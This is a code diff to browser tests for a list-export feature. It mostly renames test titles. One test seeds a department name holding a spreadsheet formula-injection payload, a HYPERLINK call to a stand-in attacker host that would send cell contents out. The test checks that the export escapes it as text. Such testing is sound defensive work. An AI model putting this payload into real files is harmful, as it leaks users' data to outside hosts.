@@ -23,7 +23,7 @@ const save = async (page: Page, button: string) => {
   return { name: download.suggestedFilename(), text, rows: data }
 }
 
-test('all rows of a list are saved, as they are searched, filtered and ordered, with the columns that are shown', async ({
+test('all rows of a list are exported with its search, filters, order and visible columns', async ({
   page,
   organization,
 }) => {
@@ -65,7 +65,7 @@ test('all rows of a list are saved, as they are searched, filtered and ordered, 
   expect(new Set(some.rows.slice(1).map((row) => row[1]))).toEqual(new Set(['suspended']))
 })
 
-test('a name that would be a formula is a text in the file', async ({ page, organization }) => {
+test('a name that looks like a formula is exported as text', async ({ page, organization }) => {
   const name = '=HYPERLINK("evil.example?"&A1,"Sales")'
   await organization.api('POST', '/department', { department_name: name })
   await organization.api('POST', '/department', { department_name: 'North; "East"' })
@@ -75,7 +75,11 @@ test('a name that would be a formula is a text in the file', async ({ page, orga
   expect(rows.slice(1).map((row) => row[0])).toEqual(expect.arrayContaining([`'${name}`, 'North; "East"']))
 })
 
-test('it can be cancelled, and goes on where the API was away', async ({ page, organization, faults }) => {
+test('an export can be canceled, and resumes after the API was unavailable', async ({
+  page,
+  organization,
+  faults,
+}) => {
   faults.expectFault(/answer: 500 .*\/api\/department\/list/)
   await organization.seed({ departments: 430, identities: 0 })
   await signIn(page, organization.ownerKey, 'departments')
@@ -117,7 +121,7 @@ test('it can be cancelled, and goes on where the API was away', async ({ page, o
   expect(new Set(rows.map((row) => row[0])).size).toBe(431)
 })
 
-test('a list that changes meanwhile is saved without a row twice, and it is said @phone', async ({
+test('a list that changes during the export has no row twice, and the panel says that it changed @phone', async ({
   page,
   organization,
 }) => {
@@ -141,7 +145,7 @@ test('a list that changes meanwhile is saved without a row twice, and it is said
   expect(names.length).toBeGreaterThanOrEqual(430)
 })
 
-test('each list has a file of its own', async ({ page, organization }) => {
+test('each list has its own file', async ({ page, organization }) => {
   await organization.seed({ departments: 2, identities: 5 })
   await signIn(page, organization.ownerKey)
   const headers: Record<string, string> = {
